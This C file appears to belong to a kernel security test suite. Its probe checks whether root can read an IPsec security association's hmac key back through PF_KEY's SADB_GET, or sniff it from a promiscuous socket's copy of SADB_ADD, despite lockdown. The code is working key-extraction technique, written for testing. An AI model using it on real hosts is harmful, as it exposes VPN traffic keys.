// SPDX-License-Identifier: GPL-2.0
/*
 * PF_KEY (RFC 2367) as root uses it: add an AH security association with
 * an hmac(sha256) key, ask for it back with SADB_GET, delete it; a second
 * socket, promiscuous (SADB_X_PROMISC), watches the SADB_ADD go by, as
 * it would an IKE daemon's. net/key/af_key.c answers with the key
 * (__pfkey_xfrm_state2msg(x, 1, 3)) and copies the SADB_ADD as it was
 * sent, asking no reason: only xfrm_user redacts keys under
 * LOCKDOWN_XFRM_SECRET. A kernel with AF_KEY as a module (Debian's) has
 * it in /modules/af_key/, in load order.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <linux/pfkeyv2.h>
#include <linux/ipsec.h>
#include <netinet/in.h>
#include <poll.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

#include "attack.h"

#define KEY_BYTES 32
#define SPI 0x1d0d
#define U64(n) (((n) + 7) / 8)	/* PF_KEY lengths count 64-bit words */

struct msg {
	unsigned char b[1024];
	size_t len;
};

static void *add(struct msg *m, size_t len)
{
	void *at = m->b + m->len;

	len = U64(len) * 8;
	memset(at, 0, len);
	m->len += len;
	return at;
}

static void address(struct msg *m, uint16_t type, const char *ip)
{
	struct sadb_address *a = add(m, sizeof(*a) + sizeof(struct sockaddr_in));
	struct sockaddr_in *sin = (void *)(a + 1);

	a->sadb_address_len = U64(sizeof(*a) + sizeof(*sin));
	a->sadb_address_exttype = type;
	a->sadb_address_prefixlen = 32;
	sin->sin_family = AF_INET;
	inet_pton(AF_INET, ip, &sin->sin_addr);
}

/* A message of @type for our SA; with the key for SADB_ADD. */
static void build(struct msg *m, uint8_t type, uint32_t seq, const unsigned char *key)
{
	struct sadb_msg *h;
	struct sadb_sa *sa;

	m->len = 0;
	h = add(m, sizeof(*h));
	h->sadb_msg_version = PF_KEY_V2;
	h->sadb_msg_type = type;
	h->sadb_msg_satype = SADB_SATYPE_AH;
	h->sadb_msg_seq = seq;
	h->sadb_msg_pid = getpid();
	sa = add(m, sizeof(*sa));
	sa->sadb_sa_len = U64(sizeof(*sa));
	sa->sadb_sa_exttype = SADB_EXT_SA;
	sa->sadb_sa_spi = htonl(SPI);
	sa->sadb_sa_state = SADB_SASTATE_MATURE;
	sa->sadb_sa_auth = SADB_X_AALG_SHA2_256HMAC;
	address(m, SADB_EXT_ADDRESS_SRC, "10.27.0.1");
	address(m, SADB_EXT_ADDRESS_DST, "10.27.0.2");
	if (key) {
		struct sadb_key *k = add(m, sizeof(*k) + KEY_BYTES);

		k->sadb_key_len = U64(sizeof(*k) + KEY_BYTES);
		k->sadb_key_exttype = SADB_EXT_KEY_AUTH;
		k->sadb_key_bits = KEY_BYTES * 8;
		memcpy(k + 1, key, KEY_BYTES);
	}
	h = (void *)m->b;
	h->sadb_msg_len = U64(m->len);
}

/* Send @m, wait for the answer to it: its errno (0 if none), the answer in @r. */
static int ask(int s, struct msg *m, struct msg *r)
{
	struct sadb_msg *q = (void *)m->b;

	if (send(s, m->b, m->len, 0) != (ssize_t)m->len)
		return errno;
	for (;;) {
		struct pollfd p = { s, POLLIN, 0 };
		struct sadb_msg *a = (void *)r->b;
		ssize_t n;

		if (poll(&p, 1, 3000) != 1)
			return ETIMEDOUT;
		n = recv(s, r->b, sizeof(r->b), 0);
		if (n < (ssize_t)sizeof(*a))
			return n < 0 ? errno : EPROTO;
		r->len = n;
		if (a->sadb_msg_type == q->sadb_msg_type && a->sadb_msg_seq == q->sadb_msg_seq &&
		    a->sadb_msg_pid == q->sadb_msg_pid)
			return a->sadb_msg_errno;
	}
}

/* The SADB_EXT_KEY_AUTH extension of @r, or NULL. */
static const unsigned char *auth_key(const struct msg *r, unsigned int *bits)
{
	for (size_t off = sizeof(struct sadb_msg); off + sizeof(struct sadb_ext) <= r->len;) {
		const struct sadb_ext *e = (const void *)(r->b + off);

		if (!e->sadb_ext_len)
			break;
		if (e->sadb_ext_type == SADB_EXT_KEY_AUTH) {
			const struct sadb_key *k = (const void *)e;

			*bits = k->sadb_key_bits;
			return (const unsigned char *)(k + 1);
		}
		off += e->sadb_ext_len * 8;
	}
	return NULL;
}

/* A promiscuous PF_KEY socket, or -1. */
static int promiscuous(void)
{
	struct sadb_msg q = { .sadb_msg_version = PF_KEY_V2, .sadb_msg_type = SADB_X_PROMISC,
			      .sadb_msg_satype = 1, .sadb_msg_len = U64(sizeof(q)) };
	int p = socket(PF_KEY, SOCK_RAW | SOCK_CLOEXEC, PF_KEY_V2);

	if (p >= 0 && send(p, &q, sizeof(q), 0) != sizeof(q)) {
		close(p);
		return -1;
	}
	return p;
}

/* Did @p see an SADB_ADD of ours (@seq) with @key whole? */
static bool promisc_saw_key(int p, uint32_t seq, const unsigned char *key)
{
	struct pollfd pf = { p, POLLIN, 0 };
	struct msg r;

	while (poll(&pf, 1, 500) == 1) {
		const struct sadb_msg *a = (const void *)r.b;
		const unsigned char *got;
		unsigned int bits = 0;
		ssize_t n = recv(p, r.b, sizeof(r.b), 0);

		if (n < (ssize_t)sizeof(*a))
			return false;
		r.len = n;
		if (a->sadb_msg_type != SADB_ADD || a->sadb_msg_seq != seq)
			continue;
		got = auth_key(&r, &bits);
		if (got && bits == KEY_BYTES * 8 && !memcmp(got, key, KEY_BYTES))
			return true;
	}
	return false;
}

static void run_pfkey_dump(struct aresult *o, int argc, char **argv)
{
	unsigned char key[KEY_BYTES];
	const unsigned char *got;
	unsigned int bits = 0;
	struct msg m, r;
	bool promisc_key = false;
	int s, p, err;

	(void)argc;
	(void)argv;
	for (int i = 0; i < KEY_BYTES; i++)
		key[i] = 0xa5 ^ (i * 7);
	s = socket(PF_KEY, SOCK_RAW | SOCK_CLOEXEC, PF_KEY_V2);
	if (s < 0) {
		if (errno == EAFNOSUPPORT)
			unavailable(o, "no PF_KEY in this kernel (CONFIG_NET_KEY)");
		else
			errno_outcome(o, errno, "socket(PF_KEY)");
		return;
	}
	build(&m, SADB_DELETE, 1, NULL);
	ask(s, &m, &r);			/* a leftover of a failed run */
	p = promiscuous();
	build(&m, SADB_ADD, 2, key);
	err = ask(s, &m, &r);
	if (err) {
		errno_outcome(o, err, "SADB_ADD of an AH SA with an hmac(sha256) key");
		if (p >= 0)
			close(p);
		close(s);
		return;
	}
	if (p >= 0) {
		promisc_key = promisc_saw_key(p, 2, key);
		close(p);
	}
	build(&m, SADB_GET, 3, NULL);
	err = ask(s, &m, &r);
	if (!err && (got = auth_key(&r, &bits)) && bits == KEY_BYTES * 8 &&
	    !memcmp(got, key, KEY_BYTES))
		shown(o, "SADB_GET returned the SA's %u-bit hmac(sha256) key, whole%s", bits,
		      promisc_key ? ", and so did a promiscuous socket's copy of SADB_ADD" : "");
	else if (promisc_key)
		shown(o, "a promiscuous socket's copy of SADB_ADD held the SA's key, whole");
	else if (err)
		errno_outcome(o, err, "SADB_GET");
	else if (p < 0)
		refused(o, "SADB_GET answered without the whole key; no promiscuous socket "
			"to watch SADB_ADD");
	else
		refused(o, "SADB_GET answered without the whole key, and a promiscuous "
			"socket's copy of SADB_ADD had it zeroed or none");
	build(&m, SADB_DELETE, 4, NULL);
	ask(s, &m, &r);
	close(s);
}

const struct attack attacks_pfkey[] = {
	{ "pfkey-dump", "an IPsec SA's key read back with PF_KEY's SADB_GET, or from a "
	  "promiscuous socket's copy of SADB_ADD", run_pfkey_dump },
	{ 0 }
};
